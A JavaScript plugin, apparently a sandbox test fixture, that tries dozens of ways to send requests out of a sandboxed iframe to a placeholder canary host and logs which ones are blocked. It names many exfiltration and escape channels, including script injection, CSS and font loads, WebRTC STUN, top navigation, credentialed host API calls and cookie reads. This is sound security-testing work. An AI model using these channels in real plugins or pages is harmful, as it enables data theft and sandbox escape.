// Hostile frame plugin: tries every way out of a sandboxed page and logs what happened.
const canary = '__CANARY__'
const wsCanary = canary.replace('http', 'ws')
const stunPort = '__STUN_PORT__'

const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

/** Puts an element into the page and waits a little for it to load something. */
async function insert(tag, attributes, parent = document.body) {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
  parent.append(element)
  await wait(60)
  return element
}

async function insertHtml(html) {
  const holder = document.createElement('div')
  holder.innerHTML = html
  document.body.append(holder)
  await wait(60)
}

export const attempts = {
  fetch: () => fetch(`${canary}/fetch`, { mode: 'no-cors' }),
  'fetch of the host API': async () =>
    `status ${(await fetch('__HOST__/api/v1/plugins', { credentials: 'include' })).status}`,
  XMLHttpRequest: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.open('GET', `${canary}/xhr`)
      request.onload = resolve
      request.onerror = () => reject(new Error('blocked'))
      request.send()
    }),
  sendBeacon: async () => String(navigator.sendBeacon(`${canary}/beacon`, 'x')),
  WebSocket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${wsCanary}/ws`)
      socket.onopen = resolve
      socket.onerror = () => reject(new Error('blocked'))
    }),
  EventSource: async () => {
    const source = new EventSource(`${canary}/sse`)
    await wait(100)
    source.close()
  },
  WebTransport: async () => new WebTransport(`${canary.replace('http', 'https')}/wt`).ready,
  'import()': () => import(`${canary}/import.js`),
  'script element': () => insert('script', { src: `${canary}/script.js` }),
  'inline script': async () => {
    const script = document.createElement('script')
    script.textContent = `fetch('${canary}/inline')`
    document.body.append(script)
    await wait(60)
  },
  'inline handler': () => insertHtml(`<img src="x:" onerror="fetch('${canary}/onerror')">`),
  'javascript: link': async () => {
    const link = await insert('a', { href: `javascript:fetch('${canary}/javascript')` })
    link.click()
    await wait(60)
  },
  image: () => insert('img', { src: `${canary}/image.png` }),
  'image srcset': () => insert('img', { srcset: `${canary}/srcset.png 2x` }),
  'svg image': () =>
    insertHtml(`<svg><image href="${canary}/svg.png"/><use href="${canary}/use.svg#a"/></svg>`),
  'svg filter': () =>
    insertHtml(
      `<svg><filter id="f"><feImage href="${canary}/feimage.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    ),
  'background image': async () => {
    document.body.style.backgroundImage = `url(${canary}/background.png)`
    await wait(60)
  },
  'adopted sheet': async () => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(
      `body { list-style-image: url(${canary}/adopted.png); cursor: url(${canary}/cursor.png), auto; }`,
    )
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    await wait(60)
  },
  'style import': () => insertHtml(`<style>@import url(${canary}/import.css);</style>`),
  'stylesheet link': () => insert('link', { rel: 'stylesheet', href: `${canary}/link.css` }, document.head),
  'font face': async () => new FontFace('x', `url(${canary}/font.woff2)`).load(),
  ...Object.fromEntries(
    [
      'prefetch',
      'preload',
      'modulepreload',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'icon',
      'manifest',
    ].map((rel) => [
      `link ${rel}`,
      () => insert('link', { rel, href: `${canary}/${rel}`, as: 'script' }, document.head),
    ]),
  ),
  'speculation rules': async () => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${canary}/speculation`] }] })
    document.head.append(script)
    await wait(60)
  },
  video: () =>
    insert('video', { src: `${canary}/video.mp4`, poster: `${canary}/poster.png`, preload: 'auto' }),
  audio: () => insert('audio', { src: `${canary}/audio.mp3`, preload: 'auto' }),
  track: () => insertHtml(`<video><track default src="${canary}/track.vtt"></video>`),
  object: () => insert('object', { data: `${canary}/object` }),
  embed: () => insert('embed', { src: `${canary}/embed` }),
  'nested frame': () => insert('iframe', { src: `${canary}/frame` }),
  'srcdoc frame': () =>
    insert('iframe', {
      srcdoc: `<img src="${canary}/srcdoc.png"><script>fetch('${canary}/srcdoc')</script>`,
    }),
  'blob frame': () =>
    insert('iframe', {
      src: URL.createObjectURL(new Blob([`<img src="${canary}/blob.png">`], { type: 'text/html' })),
    }),
  worker: async () =>
    new Worker(URL.createObjectURL(new Blob([`fetch('${canary}/worker', { mode: 'no-cors' })`]))),
  'shared worker': async () => new SharedWorker(`${canary}/shared.js`),
  'service worker': () => navigator.serviceWorker.register('/sw.js'),
  form: async () => {
    const form = await insert('form', { action: `${canary}/form`, method: 'post' })
    form.submit()
    await wait(60)
  },
  'form to a new window': async () => {
    const form = await insert('form', { action: `${canary}/form-blank`, target: '_blank' })
    form.requestSubmit()
    await wait(60)
  },
  'base element': async () => {
    await insert('base', { href: `${canary}/` }, document.head)
    await insert('img', { src: 'base.png' })
  },
  popup: async () => String(window.open(`${canary}/popup`)),
  'link ping': async () => {
    const link = await insert('a', { href: '#x', ping: `${canary}/ping` })
    link.click()
    await wait(60)
  },
  'link to a new window': async () => {
    const link = await insert('a', { href: `${canary}/blank`, target: '_blank' })
    link.click()
    await wait(60)
  },
  'top navigation': async () => {
    top.location = `${canary}/top`
  },
  'parent document': async () => parent.document.title,
  cookies: async () => document.cookie,
  localStorage: async () => localStorage.length,
  indexedDB: async () => indexedDB.open('x'),
  caches: async () => (await caches.open('x')).add(`${canary}/cache`),
  eval: async () => globalThis.eval(`fetch('${canary}/eval')`),
  'report by policy': () =>
    insert(
      'meta',
      { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${canary}/report` },
      document.head,
    ),
  WebRTC: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await wait(600)
    return 'offered'
  },
  'WebRTC from a srcdoc child': async () => {
    const child = document.createElement('iframe')
    child.srcdoc = '<p>x</p>'
    document.body.append(child)
    await wait(150)
    const Peer = child.contentWindow.RTCPeerConnection
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await wait(600)
    return 'offered'
  },
}

/** These replace the document, so they come last, each in a frame of its own. */
const departures = {
  location: () => {
    location.href = `${canary}/location`
  },
  'meta refresh': () =>
    insert('meta', { 'http-equiv': 'refresh', content: `0;url=${canary}/refresh` }, document.head),
  'link click': async () => (await insert('a', { href: `${canary}/click` })).click(),
  download: async () => (await insert('a', { href: `${canary}/download`, download: 'x' })).click(),
  'host page': () => {
    location.href = '__HOST__/'
  },
}

async function run({ root, log }) {
  const outcomes = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const value = await Promise.race([
        attempt(),
        new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500)),
      ])
      outcomes[name] = typeof value === 'string' ? value : 'tried'
    } catch (error) {
      outcomes[name] = `refused: ${error?.name ?? error}`
    }
  }
  log.info('outcomes', outcomes)
  root.append(`attacks finished: ${Object.keys(outcomes).length}`)
}

export default {
  widgets: {
    // Not awaited by the host: a widget that takes long to draw is stopped.
    probe(context) {
      run(context)
    },
    ...Object.fromEntries(
      Object.entries(departures).map(([name, leave], index) => [
        `leave-${index}`,
        async ({ root, log }) => {
          root.append(`leaving by ${name}`)
          log.info(`leaving by ${name}`)
          await wait(200)
          await leave()
        },
      ]),
    ),
  },
}
